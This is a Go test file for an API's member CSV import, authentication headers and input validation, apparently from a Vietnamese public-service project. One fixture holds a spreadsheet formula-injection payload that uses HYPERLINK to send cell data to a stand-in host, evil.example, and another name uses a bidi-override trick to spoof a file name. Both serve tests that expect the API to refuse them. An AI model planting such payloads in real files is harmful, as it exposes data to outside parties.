package api_test

import (
	"context"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/loa-vn/loa/store"
)

// Issue 9, item 1: a quote in an unquoted cell, or an unclosed quote, is a
// 422 that names the line and the CSV error, in a dry run and a real one.
func TestMemberImportCSVSyntaxIsA422(t *testing.T) {
	e := newEnv(t)
	for name, file := range map[string]string{
		"formula":  "name,phone\nNguyễn Văn A,0912345678\n=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\"),0912345679\n",
		"unclosed": "name,phone\nNguyễn Văn A,0912345678\n\"Trần B,0912345679\nLê C,0912345670\n",
	} {
		for _, q := range []string{"?dry_run=true", ""} {
			r := e.csv("manager", importPath+q, file, "text/csv")
			if r.Status != 422 {
				t.Fatalf("%s%s: status %d: %s", name, q, r.Status, r.Body)
			}
			ae := r.apiErr(t)
			if len(ae.Fields) == 0 || !strings.HasPrefix(ae.Fields[0].Path, "line.") || !strings.Contains(ae.Message, "line") ||
				!strings.Contains(ae.Fields[0].Message, "quote") {
				t.Errorf("%s%s: %s", name, q, r.Body)
			}
		}
	}
	var n int
	e.st.DB().GetContext(context.Background(), &n, `SELECT count(*) FROM pending_members`)
	if n != 0 {
		t.Fatalf("%d rows written", n)
	}
}

// Issue 9, item 15: the auth scheme is case-insensitive (RFC 7235).
func TestBearerSchemeIsCaseInsensitive(t *testing.T) {
	e := newEnv(t)
	for _, scheme := range []string{"bearer", "BEARER", "Bearer"} {
		req, _ := http.NewRequest("GET", e.srv.URL+"/api/v1/staff/me", nil)
		req.Header.Set("Authorization", scheme+" "+e.tokens["viewer"])
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
		if res.StatusCode != 200 {
			t.Errorf("%s: status %d", scheme, res.StatusCode)
		}
	}
}

// Issue 9, item 16: the idempotent create and its replay carry the same
// security headers as every other answer.
func TestSecurityHeadersOnIdempotentCreate(t *testing.T) {
	e := newEnv(t)
	e.subscribers(1, "phuong-hoan-kiem")
	body := dtDay("Headers")
	for i := 0; i < 2; i++ {
		r := e.must(e.call("editor", "POST", "/api/v1/broadcasts", body, "Idempotency-Key", "hdr-1"), 201)
		if r.Header.Get("Cache-Control") != "no-store" || r.Header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("attempt %d: headers %v", i, r.Header)
		}
	}
}

// Issue 9, item 7: NUL in any JSON string is a 422 naming the field;
// invalid UTF-8 is a 400, never stored as U+FFFD.
func TestNULAndInvalidUTF8(t *testing.T) {
	e := newEnv(t)
	r := e.call("admin", "POST", "/api/v1/staff", `{"name":"A\u0000B","role":"viewer"}`)
	if r.Status != 422 || !r.apiErr(t).hasField("name") {
		t.Errorf("NUL in staff name: %d %s", r.Status, r.Body)
	}
	r = e.call("editor", "POST", "/api/v1/faq", `{"key":"nul","locale":"vi","topic":"vneid","questions":["ok","a\u0000"],"answer":"x","source":"y"}`)
	if r.Status != 422 || !r.apiErr(t).hasField("questions[1]") {
		t.Errorf("NUL in a question: %d %s", r.Status, r.Body)
	}
	r = e.call("admin", "POST", "/api/v1/agencies", `{"code":"so-nul","name_vi":"S\u0000"}`)
	if r.Status != 422 || !r.apiErr(t).hasField("name_vi") {
		t.Errorf("NUL in an agency name: %d %s", r.Status, r.Body)
	}
	r = e.csv("manager", importPath+"?filename=a%00b.csv", "name,phone\nA,0912345678\n", "text/csv")
	if r.Status != 422 || !r.apiErr(t).hasField("filename") {
		t.Errorf("NUL in filename: %d %s", r.Status, r.Body)
	}
	for _, bad := range []string{"{\"name\":\"A\xff\xfeB\",\"role\":\"viewer\"}", `{"name":"A\ud800B","role":"viewer"}`} {
		r = e.call("admin", "POST", "/api/v1/staff", bad)
		if r.Status != 400 {
			t.Errorf("invalid UTF-8 %q: %d %s", bad, r.Status, r.Body)
		}
	}
	list, _ := e.st.ListStaff(context.Background())
	for _, s := range list {
		if strings.ContainsRune(s.Name, '\ufffd') || strings.ContainsRune(s.Name, 0) {
			t.Errorf("stored %q", s.Name)
		}
	}
}

// Issue 9, item 9: invisible format characters (bidi overrides, zero-width)
// in names are refused with a field error.
func TestInvisibleCharactersInNames(t *testing.T) {
	e := newEnv(t)
	for _, name := range []string{"Admin\u202egnp.exe", "Ad\u200bmin", "\u2066Lan\u2069", "A\u00adB"} {
		r := e.call("admin", "POST", "/api/v1/staff", map[string]any{"name": name, "role": "viewer"})
		if r.Status != 422 || !r.apiErr(t).hasField("name") {
			t.Errorf("staff %q: %d %s", name, r.Status, r.Body)
		}
	}
	r := e.call("admin", "POST", "/api/v1/agencies", map[string]any{"code": "so-rtl", "name_vi": "Sở\u202e", "name_en": "x\u200f"})
	if ae := r.apiErr(t); r.Status != 422 || !ae.hasField("name_vi") || !ae.hasField("name_en") {
		t.Errorf("agency: %d %s", r.Status, r.Body)
	}
	r = e.call("admin", "PUT", "/api/v1/agencies/so-a", map[string]any{"name_vi": "Sở\u200dA"})
	if r.Status != 422 || !r.apiErr(t).hasField("name_vi") {
		t.Errorf("agency edit: %d %s", r.Status, r.Body)
	}
	// Vietnamese and emoji-free ordinary names pass
	e.must(e.call("admin", "POST", "/api/v1/staff", map[string]any{"name": "Nguyễn Thị Ánh", "role": "viewer"}), 201)
}

// Issue 9, item 10: an agency made its own parent, or a cycle, names parent.
func TestAgencyParentCycleNamesParent(t *testing.T) {
	e := newEnv(t)
	for _, parent := range []string{"so-a", "so-a-phong"} {
		r := e.call("admin", "PUT", "/api/v1/agencies/so-a", map[string]any{"name_vi": "Sở A", "parent": parent})
		if r.Status != 422 || !r.apiErr(t).hasField("parent") {
			t.Errorf("parent %s: %d %s", parent, r.Status, r.Body)
		}
	}
	r := e.call("admin", "PUT", "/api/v1/agencies/so-a", map[string]any{"name_vi": "Sở A", "parent": "nope"})
	if r.Status != 422 || !r.apiErr(t).hasField("parent") {
		t.Errorf("unknown parent: %d %s", r.Status, r.Body)
	}
}

// Issue 9, item 13: PUT /agencies/{code} changes only the fields it is sent.
func TestAgencyEditKeepsOmittedFields(t *testing.T) {
	e := newEnv(t)
	e.must(e.call("admin", "POST", "/api/v1/agencies", map[string]any{"code": "so-c", "parent": "so-a", "name_vi": "Sở C",
		"name_en": "Dept C", "note": "ghi chú"}), 201)
	var a store.Agency
	e.must(e.call("admin", "PUT", "/api/v1/agencies/so-c", map[string]any{"name_vi": "Sở C mới"}), 200).json(t, &a)
	if a.ParentCode == nil || *a.ParentCode != "so-a" || a.Note != "ghi chú" || a.NameEn != "Dept C" || a.NameVi != "Sở C mới" {
		t.Fatalf("after a names-only edit: %+v", a)
	}
	e.must(e.call("admin", "PUT", "/api/v1/agencies/so-c", map[string]any{"parent": "", "note": ""}), 200).json(t, &a)
	if a.ParentCode != nil || a.Note != "" || a.NameVi != "Sở C mới" {
		t.Fatalf("after clearing parent and note: %+v", a)
	}
	e.must(e.call("admin", "PUT", "/api/v1/agencies/so-c", map[string]any{"name_vi": ""}), 422)
}

// Issue 9, item 18: a dry run lists every bad line (no cap at 1,000), gives
// true totals, and no "added" count for a file the real import refuses.
func TestMemberDryRunListsEveryBadLine(t *testing.T) {
	e := newEnv(t)
	var b strings.Builder
	b.WriteString("name,phone\n")
	for i := 0; i < 1500; i++ {
		b.WriteString("Người,abc\n")
	}
	for i := 0; i < 11; i++ {
		fmt.Fprintf(&b, "Người Tốt,09%08d\n", i)
	}
	r := e.must(e.csv("manager", importPath+"?dry_run=true", b.String(), "text/csv"), 200)
	var raw map[string]any
	r.json(t, &raw)
	var dry importResult
	r.json(t, &dry)
	if len(dry.Bad) != 1500 || dry.Total != 1511 || dry.Valid != 11 {
		t.Fatalf("dry run: %d bad lines, total %d, valid %d", len(dry.Bad), dry.Total, dry.Valid)
	}
	if _, ok := raw["added"]; ok || raw["refused"] != true {
		t.Fatalf("a refused file reports added=%v refused=%v", raw["added"], raw["refused"])
	}
	if dry.Bad[1499].Line != 1501 {
		t.Errorf("last bad line %d, want 1501", dry.Bad[1499].Line)
	}
	r = e.must(e.csv("manager", importPath, b.String(), "text/csv"), 422)
	if n := len(r.apiErr(t).Fields); n != 1500 {
		t.Errorf("real import names %d lines, want 1500", n)
	}
}

// Issue 9, item 19: a line with the wrong number of columns says so, instead
// of misleading reasons about its cells.
func TestMemberImportWrongColumnCount(t *testing.T) {
	e := newEnv(t)
	file := "name,phone,position,locality\nNguyễn Văn A,0912345678,Chuyên viên,Hoàn Kiếm\n" +
		"Trần B,Here,0912345679,x,y,z\nLê C,0912345670\n"
	var dry importResult
	e.must(e.csv("manager", importPath+"?dry_run=true", file, "text/csv"), 200).json(t, &dry)
	if len(dry.Bad) != 2 || dry.Bad[0].Reason != "expected 4 columns, found 6" || dry.Bad[0].Line != 3 ||
		dry.Bad[1].Reason != "expected 4 columns, found 2" {
		t.Fatalf("bad lines %+v", dry.Bad)
	}
}
